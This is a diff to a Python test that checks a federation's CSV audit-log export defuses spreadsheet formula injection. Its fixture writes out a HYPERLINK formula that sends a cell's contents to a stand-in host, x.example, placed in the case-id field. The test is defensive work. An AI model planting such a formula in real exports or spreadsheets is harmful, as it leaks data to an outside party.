@@ -281,7 +281,8 @@ def test_audit_log_csv_defuses_spreadsheet_formulas(
 ) -> None:
     # Finding 9: a member's case id becomes a cell of the auditor's CSV.
     hostile = MatchRequest(
-        Justification('=HYPERLINK("http://x.example/?"&A1)', "+purpose", "-basis", "@inv"),
+        # The purpose must be one the federation accepts: case and basis carry the attack.
+        Justification('=HYPERLINK("http://x.example/?"&A1)', "counter-terrorism", "+basis", "@inv"),
         (SHARED,),
     )
     audited.federation.local("FR").Match(match_request_to_proto(hostile), timeout=30)
@@ -291,7 +292,7 @@ def test_audit_log_csv_defuses_spreadsheet_formulas(
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
     (submitted,) = [r for r in rows if r["case_id"].startswith("'=")]
     assert submitted["case_id"] == "'" + hostile.justification.case_id
-    assert (submitted["purpose"], submitted["legal_basis"]) == ("'+purpose", "'-basis")
+    assert submitted["legal_basis"] == "'+basis"
     # The investigator is the authenticated user, whatever the request claims.
     assert submitted["investigator_id"] == "investigator@fr"
     cells = [cell for row in rows for cell in row.values() if cell]
